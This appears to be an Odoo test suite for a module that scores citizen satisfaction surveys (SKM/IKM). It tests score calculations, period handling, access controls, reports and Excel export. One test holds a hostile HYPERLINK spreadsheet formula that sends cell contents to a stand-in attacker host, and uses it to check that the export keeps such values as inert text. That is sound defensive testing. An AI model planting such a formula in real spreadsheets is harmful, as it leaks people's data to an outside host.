import io
from datetime import timedelta
from decimal import Decimal

import openpyxl

from odoo.exceptions import AccessError
from odoo.exceptions import UserError
from odoo.exceptions import ValidationError
from odoo.tests import tagged

from .skm_common import SkmCase


@tagged("post_install", "-at_install")
class TestSkmIkm(SkmCase):
    def _unit_row(self, **kwargs):
        rows = self.env["sop.skm.ikm"]._skm_compute(("unit",), period_ids=self.period.ids, **kwargs)
        return {row["unit"]: row for row in rows}

    def test_questionnaire_template(self):
        self.assertEqual(sorted(self.element_questions), [f"U{i}" for i in range(1, 10)])
        u4 = self.element_questions["U4"]
        self.assertEqual(u4.question_type, "simple_choice")
        self.assertEqual(
            u4.suggested_answer_ids.sorted("answer_score").mapped("value"),
            ["Sangat mahal", "Cukup mahal", "Murah", "Gratis"],
        )
        self.assertEqual(u4.suggested_answer_ids.sorted("answer_score").mapped("answer_score"), [1, 2, 3, 4])
        self.assertEqual(
            self.element_questions["U9"].suggested_answer_ids.sorted("answer_score")[2].value,
            "Berfungsi kurang maksimal",
        )
        self.assertTrue(
            {"gender", "age", "education", "occupation", "service", "date", "time", "suggestion"}
            <= set(self.profile_questions)
        )
        self.assertEqual(self.profile_questions["age"].question_type, "numerical_box")
        self.assertEqual(self.survey.access_mode, "public")
        self.assertTrue(self.survey.is_skm)
        with self.assertRaises(UserError):
            self.period.action_create_questionnaire()

    def test_period_dates_and_name(self):
        Period = self.env["sop.skm.period"]
        q3 = Period.create({"year": 2025, "period_type": "quarter", "number": 3})
        self.assertEqual(
            (q3.name, str(q3.date_start), str(q3.date_end)), ("SKM 2025 Triwulan III", "2025-07-01", "2025-09-30")
        )
        s2 = Period.create({"year": 2024, "period_type": "semester", "number": 2})
        self.assertEqual(
            (s2.name, str(s2.date_start), str(s2.date_end)), ("SKM 2024 Semester II", "2024-07-01", "2024-12-31")
        )
        with self.assertRaises(ValidationError):
            Period.create({"year": 2024, "period_type": "semester", "number": 3})

    def test_element_scores_must_be_one_to_four(self):
        with self.assertRaises(ValidationError):
            self.element_questions["U1"].suggested_answer_ids[:1].answer_score = 5

    def test_all_four_all_three_all_one(self):
        for score, ikm, category, label in (
            (4, "100.00", "A", "Sangat Baik"),
            (3, "75.00", "C", "Kurang Baik"),
            (1, "25.00", "D", "Tidak Baik"),
        ):
            with self.subTest(score=score):
                unit = self.env["sop.skm.unit"].create({"name": f"Unit {score}", "opd_id": self.opd.id})
                for _i in range(3):
                    self._respond([score] * 9, unit=unit)
                row = self._unit_row(unit_ids=unit.ids)[unit.id]
                self.assertEqual(row["ikm"], Decimal(ikm))
                self.assertEqual((row["category"], row["label"]), (category, label))
                self.assertEqual(row["respondents"], 3)
                self.assertTrue(row["complete"])

    def test_mixed_set_with_skipped_element(self):
        """Hand computed: NRR U5 = (4 + 4) / 2 over those who answered it; IKM = 2150/27 = 79.63 B."""
        self._respond([4, 4, 3, 3, 4, 3, 4, 3, 2], gender="Laki-laki", age=25, education="S1")
        self._respond([3, 3, 3, 2, None, 3, 3, 3, 3], gender="Perempuan", age=45, education="SMA")
        self._respond([4, 3, 2, 4, 4, 4, 3, 2, 3], gender="Laki-laki", age=33, education="S1")
        # not counted: unfinished answer, test entry
        self._respond([1] * 9, done=False)
        self._respond([1] * 9).test_entry = True
        row = self._unit_row()[self.unit.id]
        self.assertEqual(row["respondents"], 3)
        self.assertEqual(row["counts"]["U5"], 2)
        self.assertEqual(row["nrr"]["U5"], Decimal("4.0000"))
        self.assertEqual(row["nrr"]["U1"], Decimal("3.6667"))
        self.assertEqual(row["nrr"]["U4"], Decimal("3.0000"))
        self.assertEqual(row["element_index"]["U3"], Decimal("66.67"))
        self.assertEqual(row["ikm"], Decimal("79.63"))
        self.assertEqual(row["category"], "B")
        # population line: progress toward the Krejcie & Morgan sample (N=100 -> 80)
        self.population.invalidate_recordset()
        self.assertEqual(self.population.sample_min, 80)
        self.assertEqual(self.population.response_count, 3)
        self.assertAlmostEqual(self.population.progress, 3.75)
        self.assertAlmostEqual(self.population.ikm, 79.63)
        # profile breakdown
        Ikm = self.env["sop.skm.ikm"]
        gender = {r["profile_label"]: r for r in Ikm._skm_compute(("gender",), period_ids=self.period.ids)}
        self.assertEqual(gender["Laki-laki"]["respondents"], 2)
        self.assertEqual(gender["Perempuan"]["respondents"], 1)
        # the only woman skipped U5: her IKM is the mean of her 8 answered elements (23/8 x 25)
        self.assertEqual(gender["Perempuan"]["ikm"], Decimal("71.88"))
        self.assertFalse(gender["Perempuan"]["complete"])
        ages = {
            r["profile_label"]: r["respondents"] for r in Ikm._skm_compute(("age_band",), period_ids=self.period.ids)
        }
        self.assertEqual(ages, {"20-29": 1, "30-39": 1, "40-49": 1})
        education = {r["profile_label"]: r["respondents"] for r in Ikm._skm_compute(("education",))}
        self.assertEqual(education, {"S1": 2, "SMA": 1})
        # city-wide
        city = Ikm._skm_compute(())
        self.assertEqual(len(city), 1)
        self.assertEqual(city[0]["ikm"], Decimal("79.63"))

    def test_per_service_and_period(self):
        self._respond([4] * 9, service=self.service_a)
        self._respond([2] * 9, service=self.service_b)
        self._respond([3] * 9, service=self.service_b)
        rows = {r["service"]: r for r in self.env["sop.skm.ikm"]._skm_compute(("service",))}
        self.assertEqual(rows[self.service_a.id]["ikm"], Decimal("100.00"))
        self.assertEqual(rows[self.service_b.id]["ikm"], Decimal("62.50"))
        previous = self.env["sop.skm.period"].create(
            {
                "name": "Lalu",
                "year": self.period.year - 1,
                "period_type": "year",
                "date_start": self.period.date_start - timedelta(days=400),
                "date_end": self.period.date_start - timedelta(days=300),
                "survey_id": self.survey.id,
                "state": "closed",
            }
        )
        self._respond([1] * 9, period=previous)
        by_period = {r["period"]: r["ikm"] for r in self.env["sop.skm.ikm"]._skm_compute(("period",))}
        self.assertEqual(by_period[previous.id], Decimal("25.00"))
        self.assertEqual(by_period[self.period.id], Decimal("75.00"))
        self.assertEqual(self.period._skm_previous(), previous)
        # dashboard view: the average of the element index is the unit IKM
        result = self.env["sop.skm.result"].read_group(
            [("unit_id", "=", self.unit.id)], ["element_index:avg"], ["period_id"]
        )
        by_period = {r["period_id"][0]: round(r["element_index"], 2) for r in result}
        self.assertEqual(by_period, {self.period.id: 75.0, previous.id: 25.0})

    def test_liaison_sees_own_units_only(self):
        self._respond([4] * 9)
        self._respond([1] * 9, unit=self.other_unit)
        env = self.env(user=self.liaison)
        self.assertEqual(env["sop.skm.unit"].search([]), self.unit)
        rows = env["sop.skm.ikm"]._skm_compute(("unit",))
        self.assertEqual([r["unit"] for r in rows], [self.unit.id])
        self.assertEqual(set(env["sop.skm.result"].search([]).unit_id.ids), {self.unit.id})
        other_population = self.env["sop.skm.population"].create(
            {"period_id": self.period.id, "unit_id": self.other_unit.id}
        )
        with self.assertRaises(AccessError):
            other_population.with_user(self.liaison).read(["ikm"])
        with self.assertRaises(AccessError):
            env["survey.user_input"].search([])
        # SOP staff see every unit
        staff = self.env(user=self.sop_user)
        self.assertEqual(len(staff["sop.skm.ikm"]._skm_compute(("unit",))), 2)
        with self.assertRaises(AccessError):
            env["sop.skm.unit"].create({"name": "x", "opd_id": self.opd.id})

    def test_followup_and_report(self):
        self._respond([4, 4, 3, 3, 4, 3, 4, 3, 2], gender="Laki-laki", age=25, education="S1")
        plan = self.env["sop.skm.followup"].create(
            {
                "population_id": self.population.id,
                "element": "U9",
                "name": "Menyediakan kotak pengaduan daring",
                "user_id": self.liaison.id,
                "deadline": self.period.date_end,
            }
        )
        plan.action_start()
        self.assertEqual(plan.state, "progress")
        self.assertEqual(plan.activity_ids.user_id, self.liaison)
        # the next period's report shows this plan
        next_period = self.env["sop.skm.period"].create(
            {
                "name": "Berikut",
                "year": self.period.year + 1,
                "period_type": "year",
                "date_start": self.period.date_end + timedelta(days=1),
                "date_end": self.period.date_end + timedelta(days=200),
                "survey_id": self.survey.id,
            }
        )
        next_population = self.env["sop.skm.population"].create({"period_id": next_period.id, "unit_id": self.unit.id})
        plan.with_user(self.liaison).action_done()
        self.assertEqual(plan.state, "done")
        self.assertFalse(plan.activity_ids)
        html = self.env["ir.actions.report"]._render_qweb_html("sop_survey.report_skm_unit", next_population.ids)[0]
        self.assertIn(b"Menyediakan kotak pengaduan daring", html)
        html = self.env["ir.actions.report"]._render_qweb_html("sop_survey.report_skm_unit", self.population.ids)[0]
        self.assertIn(b"83.33", html)  # sum of the nine scores 30: 30 / 9 x 25
        self.assertIn(b"<svg", html)
        # the OPD liaison prints the report of their unit (values from the restricted SQL)
        html = (
            self.env["ir.actions.report"]
            .with_user(self.liaison)
            ._render_qweb_html("sop_survey.report_skm_unit", self.population.ids)[0]
        )
        self.assertIn(b"83.33", html)
        self.assertIn(b"Loket Perizinan Uji", html)

    def test_xlsx_export(self):
        self._respond([4] * 9, gender="Perempuan", age=30, service=self.service_a)
        content = self.population._skm_xlsx()
        self.assertEqual(content[:2], b"PK")
        _header, rows = self.population._skm_raw_answers()
        self.assertEqual(len(rows), 1)
        self.assertIn("Izin Usaha", rows[0])
        self.assertIn("Perempuan", rows[0])
        self.assertEqual(rows[0].count(4), 9)

    def test_xlsx_export_writes_citizen_text_as_text(self):
        """A suggestion that looks like a formula stays text in the export (no live HYPERLINK)."""
        hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Klik di sini")'
        user_input = self._respond([4] * 9, done=False)
        suggestion = self.survey.question_ids.filtered(lambda q: q.skm_profile == "suggestion")
        user_input._save_lines(suggestion, hostile)
        user_input._mark_done()
        book = openpyxl.load_workbook(io.BytesIO(self.population._skm_xlsx()))
        cells = [cell for row in book["Jawaban"].iter_rows() for cell in row if cell.value == hostile]
        self.assertEqual([cell.data_type for cell in cells], ["s"])

    def test_poster(self):
        html = self.env["ir.actions.report"]._render_qweb_html("sop_survey.report_skm_poster", self.unit.ids)[0]
        self.assertIn(b"Loket Perizinan Uji", html)
        self.assertIn(b"data:image/png;base64,", html)
        self.assertIn(self.unit.access_token.encode(), html)
